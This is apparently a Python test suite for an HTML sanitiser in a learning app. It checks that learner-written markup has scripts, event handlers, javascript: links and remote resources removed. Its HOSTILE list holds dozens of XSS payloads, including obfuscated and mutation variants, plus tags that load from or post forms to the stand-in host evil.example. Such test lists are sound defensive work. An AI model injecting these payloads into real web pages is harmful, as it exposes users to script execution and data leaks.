from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lti_app.pages.review.reflection_html import is_web_address, readable

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/track.gif>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<picture><source srcset=https://evil.example/a.png></picture>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href='https://evil.example/a.png'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<track src=https://evil.example/t.vtt>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    "<div style='position:fixed;inset:0'>You are signed out</div>",
    "<body background=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png><tr><td>x</td></tr></table>",
    "<form action=https://evil.example><input name=p><button>Go on</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/w/abc/asa/cases/1/decide'>x</a>",
    "<a href='#main'>x</a>",
    "<a href=https://example.org ping=https://evil.example>x</a>",
    "<a href=https://example.org onclick=alert(1) onmouseover=alert(2)>x</a>",
    "<a href=https://example.org target=_self rel=opener>x</a>",
    "<p onclick=alert(1) id=main class=button name=x>x</p>",
    "<p/onclick=alert(1)>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xss style='animation-name:x' onanimationend=alert(1)></xss>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<h1 onclick=alert(1)>x</h1>",
    "<h1 dir='rtl><img src=x onerror=alert(1)>'>x</h1>",
    "<ol start='1 onclick=alert(1)'><li>x</ol>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='https://example.org/\" onclick=alert(1) x=\"'>x</a>",
]
SAFE_ATTRIBUTES = {"href", "rel", "target", "dir", "lang", "colspan", "rowspan", "start"}
SAFE_TAGS = (
    "a abbr b bdi bdo blockquote br caption cite code dd del dfn div dl dt em h3 hr i ins kbd li"
    " mark ol p pre q rp rt ruby s samp small span strong sub sup table tbody td tfoot th thead"
    " tr u ul var wbr"
)


class Inventory(HTMLParser):
    """Everything a browser would find in the markup."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[dict[str, str | None]] = []
        self.oddities: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        if tag == "a":
            self.links.append(dict(attrs))

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    def handle_decl(self, decl: str) -> None:
        self.oddities.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(data)


def is_safe(html: str) -> bool:
    found = Inventory(html)
    links_are_safe = all(
        link.get("rel") == "noopener noreferrer nofollow"
        and link.get("target") == "_blank"
        and ((link.get("href") or "mailto:").startswith(("https://", "http://", "mailto:")))
        for link in found.links
    )
    return (
        found.tags <= set(SAFE_TAGS.split())
        and found.attributes <= SAFE_ATTRIBUTES
        and found.oddities == []
        and links_are_safe
    )


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_leaves_nothing_that_runs_or_loads(hostile: str) -> None:
    before, after = "<p>Before.</p>", "<p>After.</p>"
    shown = readable(f"{before}{hostile}{after}").html
    assert is_safe(str(shown))
    assert str(shown).startswith(before)


@pytest.mark.parametrize("outer", HOSTILE[::7])
@pytest.mark.parametrize("inner", HOSTILE[::5])
def test_hostile_html_within_hostile_html_leaves_nothing_either(outer: str, inner: str) -> None:
    assert is_safe(str(readable(outer.replace("x", inner)).html))


@given(st.text(alphabet="<>/=\"'&;:!-abhimgonscriptSRC #\x00\t\n", max_size=200))
def test_no_text_at_all_leaves_anything_that_runs_or_loads(text: str) -> None:
    assert is_safe(str(readable(text).html))


@given(st.lists(st.sampled_from(HOSTILE), max_size=6).map("".join), st.integers(0, 40))
def test_hostile_html_cut_anywhere_is_safe(text: str, cut: int) -> None:
    assert is_safe(str(readable(text[cut:]).html))


def test_the_learners_words_and_structure_stay() -> None:
    text = (
        "<p>Before <strong>you</strong> &amp; me</p><ul><li>one</li></ul>"
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><p dir="rtl">نص</p>'
    )
    assert str(readable(text).html) == text


def test_plain_text_stays_plain_text() -> None:
    assert str(readable("2 < 3 & 4 > 1").html) == "2 &lt; 3 &amp; 4 &gt; 1"


def test_headings_stand_below_those_of_the_page() -> None:
    assert str(readable('<h1 lang="es">Mi camino</h1><h2>b</h2><h6>c</h6>').html) == (
        '<h3 lang="es">Mi camino</h3><h3>b</h3><h3>c</h3>'
    )


def test_a_link_to_the_web_stays_and_tells_the_other_side_nothing() -> None:
    assert str(readable('<a href="https://example.org/a?b=1">x</a>').html) == (
        '<a href="https://example.org/a?b=1" target="_blank"'
        ' rel="noopener noreferrer nofollow">x</a>'
    )


def test_pictures_and_embedded_things_are_left_out_and_counted() -> None:
    shown = readable('<p>a<img src="/files/1"><iframe src="//x"></iframe></p><img alt="b">')
    assert (str(shown.html), shown.left_out) == ("<p>a</p>", 3)


def test_ten_megabytes_are_cleaned_without_harm() -> None:
    text = "<p>word word word word <b>x</b></p>" * 300_000
    assert len(str(readable(text).html)) == len(text)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://example.org/", True),
        ("http://example.org/", True),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.example", False),
        ("/w/abc", False),
        ("", False),
    ],
)
def test_only_an_address_of_the_web_is_offered_as_a_link(url: str, *, expected: bool) -> None:
    assert is_web_address(url) is expected
